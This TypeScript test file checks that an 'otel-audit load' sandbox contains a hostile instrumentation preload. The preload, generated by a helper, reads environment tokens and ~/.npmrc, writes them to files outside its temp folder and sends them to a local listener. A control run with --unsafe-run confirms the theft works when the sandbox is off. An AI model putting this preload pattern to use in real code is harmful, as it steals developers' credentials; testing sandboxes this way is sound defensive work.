// `otel-audit load` runs the app — and so the instrumentation under audit — in the sandbox (issue 15):
// a hostile instrumentation preload that reads the tokens in its environment and the user's ~/.npmrc,
// writes what it found outside its temp folder and sends it to a listener on the host's 127.0.0.1. In
// the sandbox none of it arrives; with --unsafe-run (the control) all of it does, which shows that the
// hostile code ran and that this test can fail. Structure only, never timings: short runs.
import assert from 'node:assert/strict';
import { readFileSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { parseReport } from '../../src/model/parse-report.js';
import { inspectorKeepsPermissions } from '../../src/sandbox/node-permissions.js';
import { osIsolation } from '../../src/sandbox/os-isolation.js';
import { attackLab, filesUnder, leakedSecrets, type Lab } from '../helpers/attack-lab.js';
import { runCli } from '../cli/run-cli.js';

const SHORT = ['--duration', '0.4', '--rounds', '2', '--warmup', '0', '--count-requests', '0', '--no-scan', '--format', 'json', '-q'];

const APP = `'use strict';
const http = require('node:http');
http.createServer((req, res) => res.end('{}')).listen(Number(process.env.PORT), process.env.HOST);
`;

/** At load time: every secret it can find, written outside and sent to the listener. */
function hostilePreload(lab: Lab): string {
  return `'use strict';
const fs = require('node:fs');
const net = require('node:net');
const secrets = ${JSON.stringify(lab.secrets)};
const env = Object.values(process.env).filter((v) => secrets.includes(v)).join(',');
let npmrc;
try { npmrc = fs.readFileSync(${JSON.stringify(path.join(lab.home, '.npmrc'))}, 'utf8'); } catch (e) { npmrc = 'read!' + e.code; }
for (const [name, text] of [['env.txt', env], ['npmrc.txt', npmrc]]) {
  try { fs.writeFileSync(${JSON.stringify(lab.outside)} + '/' + name, text); } catch {}
}
const socket = net.connect(${lab.port}, '127.0.0.1', () => socket.end('env:' + env + ';npmrc:' + npmrc));
socket.on('error', () => {});
`;
}

const outsideText = (lab: Lab): string =>
  filesUnder(lab.outside)
    .map((f) => readFileSync(path.join(lab.outside, f), 'utf8'))
    .join('\n');

describe('sandbox: a hostile instrumentation under load', { skip: osIsolation().network ? false : 'no network namespace here (unshare refused): the app shares the network' }, () => {
  let lab: Lab;
  before(async () => {
    lab = await attackLab();
    writeFileSync(path.join(lab.root, 'app.js'), APP);
    writeFileSync(path.join(lab.root, 'hostile.js'), hostilePreload(lab));
  });
  after(async () => lab.close());

  const run = (extra: string[]) => runCli(['load', 'app.js', '--url', '/', '--instrument', './hostile.js', ...SHORT, ...extra], { cwd: lab.root, env: lab.env, timeoutMs: 120_000 });

  it('--no-profile: no token in its environment, nothing read from home, written outside or sent to the listener', async () => {
    const r = await run(['--no-profile']);
    assert.equal(r.code, 0, r.stderr);
    const sandbox = parseReport(r.stdout, 'stdout').load!.sandbox!;
    assert.deepEqual([sandbox.enabled, sandbox.environment, sandbox.permissionModel, sandbox.network], [true, 'allow-list', true, true]);
    assert.deepEqual(filesUnder(lab.outside), []);
    assert.deepEqual(lab.connections(), []);
    assert.deepEqual(leakedSecrets(lab, r.stdout + r.stderr), []);
  });

  it('with the CPU profile: no token in its environment, nothing sent; the permission model as far as the inspector allows, said in the report', async () => {
    const r = await run([]);
    assert.equal(r.code, 0, r.stderr);
    const sandbox = parseReport(r.stdout, 'stdout').load!.sandbox!;
    assert.equal(sandbox.permissionModel, inspectorKeepsPermissions());
    assert.equal(sandbox.limits.length > 0, !sandbox.permissionModel, 'a permission model left off is a limit the report names');
    assert.deepEqual(lab.connections(), []);
    // the environment held no token, whatever it could write
    const envFile = filesUnder(lab.outside).includes('env.txt') ? readFileSync(path.join(lab.outside, 'env.txt'), 'utf8') : '';
    assert.equal(envFile, '');
    if (sandbox.permissionModel) assert.deepEqual(filesUnder(lab.outside), []);
    assert.deepEqual(leakedSecrets(lab, r.stdout + r.stderr), []);
  });

  it('the control, --unsafe-run: the same code gets the tokens out, to a file and to the listener', async () => {
    // what the runs before may have left (a file, with the profile on Node 20) must not count here
    for (const f of filesUnder(lab.outside)) rmSync(path.join(lab.outside, f));
    const before = lab.connections().length;
    const r = await run(['--no-profile', '--unsafe-run']);
    assert.equal(r.code, 0, r.stderr);
    assert.equal(parseReport(r.stdout, 'stdout').load!.sandbox!.enabled, false);
    assert.notDeepEqual(leakedSecrets(lab, outsideText(lab)), []);
    assert.notDeepEqual(leakedSecrets(lab, lab.connections().slice(before).join('\n')), []);
  });
});
